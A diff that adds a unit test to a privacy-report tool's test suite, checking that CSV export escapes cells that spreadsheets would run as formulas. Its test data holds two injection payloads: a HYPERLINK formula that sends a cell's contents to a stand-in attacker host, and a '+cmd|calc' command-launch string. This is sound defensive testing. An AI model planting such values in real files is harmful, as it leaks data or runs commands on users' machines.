@@ -104,3 +104,14 @@ def test_registered_processors_and_recipients_are_described(mapped: Session) -> 
     assert rows["newsletter"]["processor_details"] == "mail_vendor: Mailer Ltd (CN; agreement DPA-7)"
     assert rows["partner_offers"]["recipient_details"] == "partner_co: Partner Co (partner, CN)"
     assert "Mailer Ltd (CN; agreement DPA-7)" in ropa.render(mapped, "html")
+
+
+def test_csv_cells_never_run_as_formulas() -> None:
+    from privet.reports.ropa import CSV_COLUMNS, to_csv
+
+    entry = {c: "" for c in CSV_COLUMNS} | {"categories": [], "subject_types": [], "datastores": [], "transfers": [],
+                                           "registered_transfers": {"count": 0, "people": 0}}
+    entry |= {"name": '=HYPERLINK("https://evil.example/?"&A1,"open")', "purpose": "+cmd|calc"}
+    records = {"activities": [entry]}
+    text = to_csv(records)
+    assert "'=HYPERLINK" in text and "'+cmd" in text and "\n=HYPERLINK" not in text
